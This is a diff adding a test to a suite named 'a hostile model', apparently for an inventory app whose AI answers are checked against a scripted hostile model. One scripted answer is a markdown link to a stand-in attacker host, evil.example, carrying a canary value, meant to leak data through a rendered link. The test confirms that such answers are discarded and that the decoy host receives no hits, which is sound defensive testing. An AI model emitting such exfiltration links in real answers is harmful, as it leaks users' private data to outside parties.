@@ -311,6 +311,42 @@ describe('a hostile model', () => {
     expect(stowage.log.join('')).not.toContain(SOFA)
   })
 
+  it('AV8 never words an answer that is not sound, nor one with instructions in it', async () => {
+    await level('records')
+    const head = async () => JSON.stringify((await page.send('GET', '/audit?limit=1')).data)
+    const before = await head()
+    const scripts = hostileAnswers({
+      right: { text: 'The couch is in the garage.', cites: ['r1'] },
+      injected: { text: '[Click](https://evil.example/?q=CANARYSEAT)', cites: ['r1', 'r99'] },
+      elsewhere: decoy.url,
+    })
+    const hasty = await openStowage({ ...model.env, STOWAGE_AI_SECONDS: '1' })
+    const other = await hasty.register('ada')
+    await other.creates('item.create', { name: 'CANARYSEAT couch' })
+    const hastyPage = await hasty.browse('ada')
+    expect((await hastyPage.send('PATCH', '/ai/settings', { level: 'records' })).status).toBe(200)
+    for (const [name, { script, reason }] of Object.entries(scripts)) {
+      rest()
+      model.follows(script)
+      const isSlow = reason === 'too_slow'
+      const answer = await asks('Where is the couch?', { compose: true }, isSlow ? hastyPage : page)
+      // The answer of the household stands, whatever the model says beside it.
+      expect([name, answer.state, answer.by]).toEqual([name, 'answered', 'grammar'])
+      expect(answer.citations.map((thing) => thing.name)).toEqual(['CANARYSEAT couch'])
+      // Fields of a translation beside a wording are not read.
+      const isSound = (reason === null && name !== 'injected instructions') || name === 'an unknown kind'
+      const { composed, reason: why } = answer.provider ?? {}
+      expect([name, composed?.text ?? null, why]).toEqual([
+        ...[name, isSound ? 'The couch is in the garage.' : null],
+        isSound ? null : (reason ?? 'unusable'),
+      ])
+    }
+    await hasty.dispose()
+    expect(await head()).toBe(before)
+    expect(decoy.hits).toEqual([])
+    expect(model.problems).toEqual([])
+  })
+
   it('AV8 a parameter that is refused is left out, and remembered; a busy server is asked once more', async () => {
     rest()
     await level('questions')
